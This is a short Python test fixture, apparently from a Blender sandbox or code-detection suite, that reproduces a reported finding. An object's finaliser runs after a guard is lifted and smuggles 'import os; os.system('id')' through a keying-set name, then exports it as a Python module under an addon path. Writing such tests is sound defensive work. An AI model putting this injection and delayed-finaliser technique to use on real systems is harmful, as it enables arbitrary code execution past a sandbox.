# expect: implicit-code
# Issue 26, finding 1: a result that outlives the script, whose finaliser runs at the
# next call after the guard is off and writes a Python module with an escaped operator.
import bpy


class Result(dict):
    def __del__(self):
        ks = bpy.context.scene.keying_sets.new(idname="x\nimport os; os.system('id')\n")
        [bpy.ops.anim][0].keying_set_export(filepath="/addon/shlex.py")


result = Result(ok=True)
